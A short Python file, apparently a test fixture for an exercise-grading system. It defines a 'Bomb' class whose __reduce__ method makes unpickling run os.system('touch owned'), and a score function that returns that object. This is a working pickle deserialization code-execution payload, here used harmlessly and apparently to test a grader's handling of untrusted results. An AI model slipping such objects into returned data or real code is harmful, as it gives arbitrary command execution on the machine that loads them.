"""An object that would run a command where it is unpickled."""

import os


# %% exercise="wanda.score"
class Bomb:
    def __reduce__(self):
        return os.system, ("touch owned",)


def score(w, x):
    return Bomb()
